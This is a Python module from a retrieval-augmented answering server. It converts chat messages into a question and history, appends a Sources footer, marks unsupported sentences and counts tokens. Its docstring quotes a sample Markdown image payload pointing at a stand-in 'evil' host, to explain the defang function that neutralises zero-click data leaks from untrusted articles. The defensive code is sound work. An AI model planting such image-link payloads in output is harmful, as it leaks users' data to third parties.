"""What the HTTP routes need from the core, as plain functions (no web framework here).

- `Service`: the one warm `Pipeline`, the models a client may pick, usage counts.
- `conversation`: OpenAI messages → (question, earlier turns) for the follow-up handling
  the chat uses (`Pipeline.ask_stream(history=...)`, which condenses a follow-up).
- `sources_footer` / `strip_footer`: the plain-text Sources list under an answer, and
  its removal when a client sends our own answer back as history.
- `content`: the checked answer as a chat client shows it: unsupported sentences
  marked `[unsupported]` (as `rag ask` does), the footer.
- `defang`: answers and titles quote articles, which are untrusted; chat clients
  render Markdown, so an article's `![](https://evil/?q=...)` would load an image (a
  zero-click leak) and `[text](url)` would become a link. A WORD JOINER (U+2060,
  invisible) is put inside `![`, `](` and `<tag`, which keeps the text as it reads and
  makes it inert. `[n]` markers are untouched.

What it does not do: HTTP, auth, or build a retriever or a prompt (the core does).
"""

from __future__ import annotations

import re
import threading
from collections import OrderedDict
from collections.abc import Iterator, Sequence
from typing import Any

from rag.api import Pipeline
from rag.config import OFFLINE_MODEL, LLMSettings, Settings
from rag.types import Answer, Citation

from .errors import ApiError, not_found_model

MODEL = "rag"
COUNT_CACHE = 4096  # passages whose token count is remembered
FOOTER_HEAD = "\n\nSources:\n"
UNSUPPORTED = "[unsupported]"
WJ = "\u2060"
_ACTIVE = re.compile(r"!\[|\]\(|<(?=[A-Za-z/!?])")


# --------------------------------------------------------------------------- defang


def defang(text: str) -> str:
    """Markdown images, inline links and HTML tags made inert (see the module doc)."""
    return _ACTIVE.sub(lambda m: m.group(0)[0] + WJ + m.group(0)[1:], text)


# --------------------------------------------------------------------------- sources


def _title_line(c: Citation) -> str:
    d = c.hit.doc
    meta = ", ".join(x for x in (d.source, (d.published_at or "")[:10]) if x)
    line = f"[{c.n}] {' '.join(d.title.split())}" + (f" — {meta}" if meta else "")
    return line + (f" — {d.url}" if d.url else "")


def sources_footer(citations: Sequence[Citation]) -> str:
    """The Sources list appended to an answer's content ('' without citations)."""
    if not citations:
        return ""
    return FOOTER_HEAD + "\n".join(defang(_title_line(c)) for c in citations)


def strip_footer(text: str) -> str:
    head, sep, _ = text.rpartition(FOOTER_HEAD)
    return head if sep else text


def _marked_parts(answer: Answer) -> list[str]:
    """The answer text cut after each checked sentence, each unsupported sentence
    followed by `[unsupported]` (as `rag ask` prints it)."""
    text, parts, pos = answer.text, [], 0
    for x in answer.sentences:
        if pos < x.end <= len(text):
            unsupported = x.claim and not x.supported and x.end > x.start
            parts.append(text[pos : x.end] + (f" {UNSUPPORTED}" if unsupported else ""))
            pos = x.end
    parts.append(text[pos:])
    return [p for p in parts if p]


def content(answer: Answer, footer: bool) -> str:
    """A chat completion's content: the checked answer, made inert for Markdown, with
    the Sources footer (and the note on unsupported sentences) when asked for."""
    return "".join(content_pieces(answer, footer))


def content_pieces(answer: Answer, footer: bool) -> list[str]:
    """`content` in streamable pieces: one per sentence, then the footer."""
    parts = _marked_parts(answer)
    pieces = [defang(p) for p in parts]
    whole = defang("".join(parts))
    if "".join(pieces) != whole:  # a Markdown construct across a sentence end
        pieces = [whole]
    if footer:
        tail = sources_footer(answer.citations)
        if any(x.claim and not x.supported for x in answer.sentences):
            tail += f"\n\n{UNSUPPORTED}: no passage shown supports that sentence."
        pieces.append(tail)
    return [p for p in pieces if p]


# --------------------------------------------------------------------------- messages


def _text(content: Any, i: int) -> str:
    if content is None:
        return ""
    if isinstance(content, str):
        return content
    parts = []
    for part in content:
        if part.type != "text":
            raise ApiError(
                400,
                f"messages[{i}].content: {part.type!r} parts are not supported; send text",
                param=f"messages[{i}].content",
                code="unsupported_content",
            )
        parts.append(part.text or "")
    return "\n".join(parts)


def conversation(messages: Sequence[Any], max_turns: int) -> tuple[str, list[dict[str, str]]]:
    """The question (the last user message) and the earlier user/assistant turns.

    System, developer and tool messages are dropped: the answerer's instructions are the
    server's own, and a client's system prompt cannot change how it cites.
    """
    if not messages:
        raise ApiError(
            400,
            "messages is empty; send at least one message with role 'user'",
            param="messages",
            code="empty_messages",
        )
    turns: list[dict[str, str]] = []
    for i, m in enumerate(messages):
        text = _text(m.content, i)
        if m.role in ("user", "assistant") and text.strip():
            content = strip_footer(text) if m.role == "assistant" else text
            turns.append({"role": m.role, "content": content})
    last = messages[-1]
    if last.role != "user" or not _text(last.content, len(messages) - 1).strip():
        raise ApiError(
            400,
            "the last message must be the user's question (role 'user', non-empty content); "
            f"got role {last.role!r}",
            param="messages",
            code="no_question",
        )
    question = turns.pop()["content"]
    history = turns[-2 * max_turns :] if max_turns else []
    return question, history


# --------------------------------------------------------------------------- service


class Service:
    """One warm Pipeline and what a request asks of it."""

    def __init__(self, settings: Settings) -> None:
        self.settings = settings
        self.pipeline = Pipeline(settings)
        self._counter: Any = None
        self._counter_lock = threading.Lock()
        self._counts: OrderedDict[str, int] = OrderedDict()  # passage text → tokens

    # -- models
    def models(self) -> list[str]:
        """Model ids a client may send: `rag` (the configured answerer) first."""
        names = [OFFLINE_MODEL, self.settings.llm.model, *self.settings.serve.models]
        return [MODEL, *(f"{MODEL}/{m}" for m in dict.fromkeys(names))]

    def llm_for(
        self,
        name: str | None,
        *,
        temperature: float | None = None,
        max_tokens: int | None = None,
        deadline_s: float | None = None,
    ) -> LLMSettings:
        """The LLM settings for a requested model id (404 for one not offered).

        `deadline_s` caps the LLM's own deadline: the routes pass the request's plus a
        second, so the request answers 504 first and the worker thread ends soon after."""
        base = self.settings.llm
        allowed = [OFFLINE_MODEL, base.model, *self.settings.serve.models]
        wanted = (name or MODEL).strip()
        if wanted == MODEL:
            model = base.model
        else:
            bare = wanted.removeprefix(MODEL + "/")
            if bare not in allowed:
                raise not_found_model(wanted, self.models())
            model = bare
        update: dict[str, Any] = {"model": model}
        if temperature is not None:
            update["temperature"] = temperature
        if max_tokens is not None:
            update["max_tokens"] = max_tokens
        if deadline_s is not None:
            update["deadline_s"] = max(0.1, min(base.deadline_s, deadline_s))
        return base.model_copy(update=update)

    # -- answering (called in worker threads)
    def ask(
        self, question: str, history: list[dict[str, str]], llm: LLMSettings, top_k: int | None
    ) -> Answer:
        return self.pipeline.ask(question, history=history, top_k=top_k, llm=llm)

    def ask_stream(
        self, question: str, history: list[dict[str, str]], llm: LLMSettings, top_k: int | None
    ) -> Iterator[Any]:
        return self.pipeline.ask_stream(question, history=history, top_k=top_k, llm=llm)

    # -- usage
    def _count(self, texts: list[str], *, remember: bool = False) -> int:
        """Tokens in `texts`. Passages' counts are remembered (`remember`): the same
        passages come back question after question, and tokenizing them anew would cost
        a fifth of an offline answer."""
        with self._counter_lock:
            if self._counter is None:
                self._counter = self.pipeline.retriever().encoder.counter()
            known = [self._counts.get(t) if remember else None for t in texts]
        todo = [t for t, n in zip(texts, known, strict=True) if n is None]
        fresh = dict(zip(todo, self._counter.count(todo), strict=True)) if todo else {}
        with self._counter_lock:
            for t, n in fresh.items() if remember else ():
                self._counts[t] = n
                if len(self._counts) > COUNT_CACHE:
                    self._counts.popitem(last=False)
        return sum(n if n is not None else fresh[t] for t, n in zip(texts, known, strict=True))

    def usage(self, answer: Answer) -> dict[str, int]:
        """Token counts: the model's own when it reports them; otherwise counted with
        the embedding model's tokenizer over what the answerer read and wrote."""
        u = answer.usage
        prompt = u.prompt_tokens
        if prompt is None:
            passages = [h.chunk.text for h in answer.hits]
            prompt = self._count([answer.question]) + self._count(passages, remember=True)
        completion = u.completion_tokens
        if completion is None:
            completion = self._count([answer.text])
        return {
            "prompt_tokens": prompt,
            "completion_tokens": completion,
            "total_tokens": prompt + completion,
        }


def answer_extras(answer: Answer) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    """(`citations`, `rag`) for a chat completion: the `rag ask --json` contract minus
    the question, the text and the hits; fields added to it later pass through."""
    d = answer.to_dict()
    citations = d.pop("citations")
    for k in ("question", "answer", "hits", "usage"):
        d.pop(k, None)
    return citations, d


__all__ = [
    "FOOTER_HEAD",
    "MODEL",
    "Service",
    "answer_extras",
    "content",
    "content_pieces",
    "conversation",
    "defang",
    "sources_footer",
    "strip_footer",
]
